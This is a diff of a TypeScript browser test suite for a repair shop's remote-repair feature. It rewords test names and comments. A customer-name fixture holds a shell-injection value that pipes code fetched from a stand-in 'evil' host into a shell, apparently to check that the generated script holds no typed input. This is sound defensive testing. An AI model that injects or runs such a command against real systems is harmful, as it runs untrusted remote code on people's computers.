@@ -12,7 +12,6 @@ import { station } from '../station.js';
 const CUSTOMER = 'Thandi "; curl evil | sh #';
 const IMAGE = 'customers-disk.img';
 
-/** A session on a customer's own computer: from the form over the script that is really run to what its agent found. */
 export function remoteRepairFlows(stage: Stage): void {
   inChromium('a remote session', () => {
     let shop: Visitor;
@@ -37,7 +36,7 @@ export function remoteRepairFlows(stage: Stage): void {
       await stage.browser.closeVisitors();
     }, 60_000);
 
-    /** As the customer runs it: with a home of its own, and a disk that the agent sees. */
+    /** Runs the script as the customer does, with a separate home and a disk that the agent sees. */
     async function run(): Promise<void> {
       const home = await mkdtemp(join(folder, 'home-'));
       const [file, disks] = [join(home, 'remote-repair.sh'), join(home, 'disks')];
@@ -56,7 +55,7 @@ export function remoteRepairFlows(stage: Stage): void {
     const code = () => /enter the code (\S+) on/.exec(said)?.[1];
 
     // spec C041, F105, F106, K169, K180
-    it('begins with a script that holds nothing that anyone typed', async () => {
+    it('creates a script that contains no typed input', async () => {
       const { page } = shop;
       await page.goto('/remote-repair');
       await page.getByRole('tab', { name: 'Active Session' }).and(page.locator('[disabled]')).waitFor();
@@ -79,9 +78,9 @@ export function remoteRepairFlows(stage: Stage): void {
     });
 
     // spec E120, F100
-    it('is connected once a person confirms the agent that used its token', async () => {
+    it('connects after a person confirms the agent that used the token', async () => {
       const { page } = shop;
-      // The token works once: an agent that an attempt before has started goes on, and no second one beside it.
+      // The token works once, so an agent started by an earlier attempt is reused.
       if (!isOn()) await run();
       await waitFor(() => {
         if (computer?.exitCode != null) throw new Error(said);
@@ -96,7 +95,7 @@ export function remoteRepairFlows(stage: Stage): void {
       await station(shop, 'remote-connected');
     }, 180_000);
 
-    it('diagnoses a disk of that computer, and what was found stands under Results', async () => {
+    it('diagnoses a disk of the remote computer and shows the findings under Results', async () => {
       const { page } = shop;
       await page
         .getByRole('listitem')
@@ -115,7 +114,7 @@ export function remoteRepairFlows(stage: Stage): void {
       await page.getByRole('heading', { name: /^Repair R-/ }).waitFor();
     }, 180_000);
 
-    it('ends: its agent is the shop’s no more, and its token opens nothing', async () => {
+    it('ends the session and revokes its agent and token', async () => {
       const { page } = shop;
       await page.goBack();
       await page.getByRole('tab', { name: 'Active Session' }).click();
@@ -130,7 +129,7 @@ export function remoteRepairFlows(stage: Stage): void {
       await shop.picture('remote-ended');
     }, 120_000);
 
-    it('stands on the shop’s dashboard, beside the scanner, which scans again', async () => {
+    it('lists the session on the shop’s dashboard beside the device scanner', async () => {
       const { page } = shop;
       await page.goto('/device-scanner');
       await page.getByRole('button', { name: 'Scan again' }).click();
@@ -146,12 +145,12 @@ export function remoteRepairFlows(stage: Stage): void {
     }, 120_000);
 
     // spec R025
-    it('is ordered on the shop’s own page, once that is published', async () => {
+    it('takes an order on the shop’s own page after publication', async () => {
       const { page } = shop;
       await page.goto('/computer-land');
       await page.getByText('No shop page here').first().waitFor();
       await page.goto('/settings?tab=shop');
-      // The specification's own address: the operator gives it to one shop, and no other may take it.
+      // An address from the specification: the operator assigns it to one shop, and all shops are refused here.
       const address = page.getByLabel('Address of your page');
       await address.fill('computer-land');
       shop.expects(/\/api\/shop\/page$/, /status of 400/);
@@ -167,7 +166,7 @@ export function remoteRepairFlows(stage: Stage): void {
       await station(visitor, 'shop-page');
     }, 120_000);
 
-    it('shows a customer why their list is empty, or what is on it', async () => {
+    it('shows a customer their repairs or the reason for an empty list', async () => {
       const customer = await stage.as('customer');
       await customer.page.goto('/user');
       await customer.page
